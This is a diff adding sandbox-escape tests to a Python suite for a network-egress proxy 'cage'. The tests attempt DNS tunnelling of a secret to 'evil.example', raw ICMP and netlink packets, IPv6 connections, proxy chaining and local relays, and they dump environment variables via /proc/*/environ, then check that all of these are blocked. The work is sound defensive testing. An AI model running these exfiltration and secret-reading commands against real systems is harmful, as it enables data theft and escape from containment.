@@ -544,9 +544,16 @@ def behind(s):
     answer = shell(s, f"curl -sS {CA} https://files.example.com/three", '["files.example.com:443"]', more=site + 'names = "upstream"\n')
     check('"path": "/three"' in answer.out and connected[2:] == ["files.example.com:443"] and "not checked" in answer.enforcement["net.allow"], "by the name, and the result says what that is worth", (answer, connected))
     del connected[:]
+    s.environ["PAIR"] = "someone:s3cret-of-the-site"
+    answer = shell(s, f"curl -sS {CA} https://api.example.com/four; env; cat /proc/*/environ | tr '\\0' '\\n'", more=site + 'credentials = "env:PAIR"\n')
+    del s.environ["PAIR"]
+    check('"path": "/four"' in answer.out and heads[-1] == "Basic c29tZW9uZTpzM2NyZXQtb2YtdGhlLXNpdGU=", "with credentials, which the upstream alone hears", (answer, heads))
+    check("s3cret" not in json.dumps(answer.json) and "PAIR=" not in answer.out, "and no part of the cage or the result holds", answer)
+    answer = shell(s, "true", more=site + 'credentials = "env:PAIR"\n')
+    check(answer.status == "denied" and "egress.credentials" in answer.message, "none: the call is refused", answer)
 
 
-connected = []
+connected, heads = [], []
 
 
 class Connect(socketserver.StreamRequestHandler):
@@ -554,8 +561,11 @@ class Connect(socketserver.StreamRequestHandler):
 
     def handle(self):
         words = self.rfile.readline().split()
-        while self.rfile.readline().strip():
-            pass
+        while line := self.rfile.readline().strip():
+            if line.lower().startswith(b"proxy-authorization:"):
+                heads.append(line.split(b": ", 1)[1].decode())
+        if len(words) < 2:
+            return
         host, port = words[1].decode().rsplit(":", 1)
         connected.append(f"{host}:{port}")
         outer = socket.create_connection((NAMES.get(host, [host])[0], int(port)))
@@ -569,6 +579,84 @@ class Connect(socketserver.StreamRequestHandler):
             while data := one.recv(65536):
                 other.sendall(data)
             other.shutdown(socket.SHUT_WR)
+
+
+BESIDE = r"""
+import os, socket, struct, sys
+def tell(name, act):
+    try: print(name, "out:", act())
+    except OSError as error: print(name, "no:", error.errno)
+def question(name, kind=16):
+    return b"\x11\x22\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
+def asks(server, name, kind=16):
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+    s.sendto(question(name, kind), (server, 53)); return s.recv(999)[3] & 15
+secret = os.urandom(30).hex()
+for kind in (1, 16, 10, 255, 28):
+    for name in (f"{secret}.evil.example", f"{secret}.api.example.com", secret):
+        answer = asks("127.0.0.1", name, kind)
+        print("tunnel", "no:" if answer == 3 else "out:", answer)
+for server in ("8.8.8.8", "93.184.216.99", "198.18.0.1", "2606:2800:21f:cb07::34"):
+    tell("datagram", lambda: asks(server, f"{secret}.evil.example"))
+def packet(family, kind, protocol):
+    s = socket.socket(family, kind, protocol); s.settimeout(1); s.sendto(b"\10\0\xf7\xff\0\0\0\0" + secret.encode(), ("93.184.216.99", 0) if family == 2 else ("2606:2800:21f:cb07::34", 0)); return s.recv(99)
+for family, kind, protocol in ((2, 3, 1), (2, 2, 1), (10, 3, 58), (10, 2, 58), (2, 3, 255), (17, 3, 0x300)):
+    tell("packet", lambda: packet(family, kind, protocol))
+def link(kind, body):
+    s = socket.socket(16, 3, 0); s.settimeout(1)
+    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
+    error, = struct.unpack("=i", s.recv(999)[16:20])
+    if error: raise OSError(-error, "refused")
+    return "made"
+info = struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH8s", 12, 3, b"way0\0\0\0\0") + struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 12, 1, b"dummy\0\0\0")
+tell("netlink", lambda: link(16, info))
+tell("netlink", lambda: link(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)))
+for host in ("2606:2800:21f:cb07::34", "::ffff:93.184.216.99", "64:ff9b::5db8:d863", "fe80::1%lo"):
+    tell("v6", lambda: socket.create_connection((host, 443), 3))
+print("others", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()), flush=True)
+"""
+RELAY = r"""
+import os, socket, threading
+def copy(a, b):
+    try:
+        while data := a.recv(65536): b.sendall(data)
+        b.shutdown(1)
+    except OSError: pass
+def serve(a):
+    host, port = os.environ["http_proxy"][7:].split(":")
+    b = socket.create_connection((host, int(port))); threading.Thread(target=copy, args=(b, a), daemon=True).start(); copy(a, b)
+s = socket.create_server(("127.0.0.1", 9999)); print("up", flush=True)
+while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
+"""
+
+
+def beside(s):
+    """Ways out that know no connection, a second hop, and what another cage listens on."""
+    s.works("net.allow")
+    asked.clear()
+    answer = s.python(BESIDE, network=ENTRIES, writable=())
+    lines_ = answer.out.splitlines()
+    check(answer.status == "ok" and len(lines_) > 30 and not [line for line in lines_ if "out:" in line], "questions, datagrams, packets, netlink, IPv6: nothing leaves", answer)
+    check(not asked, "bytes that names carried out: 0", asked)
+    check(len(lines_[-1].split(",")) <= 3, "and no process of the proxy is to be seen", lines_[-1])
+    serve(Streams((API, 3130), Connect))
+    answer = shell(s, "curl -sS -m 5 --noproxy '*' --proxytunnel --proxy http://api.example.com:3130 http://evil.example/; curl -sS -m 5 --preproxy $http_proxy --proxytunnel --proxy http://api.example.com:3130 http://evil.example/;"
+                   " curl -sS -m 5 --proxy http://api.example.com:3130 http://evil.example/", '["api.example.com:3130"]')
+    check("evil" not in answer.out and not connected and "api.example.com:3130" in target(answer), "a proxy that is granted is no second hop", (answer, connected))
+    del connected[:]
+    script = f"/usr/bin/python3 -I -c '{RELAY}' & sleep 1; "
+    answer = shell(s, script + f"for h in api evil; do curl -sS -m 9 {CA} --proxy http://127.0.0.1:9999 --noproxy none.example -w '%{{http_connect}}\\n' https://$h.example.com/ https://$h.example/; done; kill %1")
+    check('"host": "api.example.com"' in answer.out and answer.out.count("403") >= 2 and "evil.example:443" in target(answer), "a relay of the tool's own gets the same answers", answer)
+    process = s.begin(f"/usr/bin/python3 -I -c 'import socket; s = socket.create_server((\"0.0.0.0\", 7777)); s.accept()' & sleep 1; {PAUSE}", network=ENTRIES, writable=())
+    answer = shell(s, "curl -sS -m 3 --noproxy '*' http://127.0.0.1:7777/; curl -sS -m 3 http://127.0.0.1:7777/; curl -sS -m 3 --noproxy '*' http://198.18.0.1:7777/")
+    check(answer.out.count('"error"') <= 1 and answer.code == 7, "what another cage listens on", answer)
+    for host in ("127.0.0.1", API, "198.18.0.1"):
+        try:
+            socket.create_connection((host, 7777), 2).close()
+            check(False, f"nor does this machine reach it: {host}")
+        except OSError:
+            check(True, f"nor does this machine reach it: {host}")
+    process.communicate(b"\n", 30)
 
 
 PROGRAMS = {
@@ -619,4 +707,4 @@ def gone(pids):
     return until(lambda: not any(os.path.exists(f"/proc/{pid}") for pid in pids), 5)
 
 
-run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, behind, inspected, trusted, secrets, masked, kept_out, contained, programs, ends)
+run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, beside, behind, inspected, trusted, secrets, masked, kept_out, contained, programs, ends)
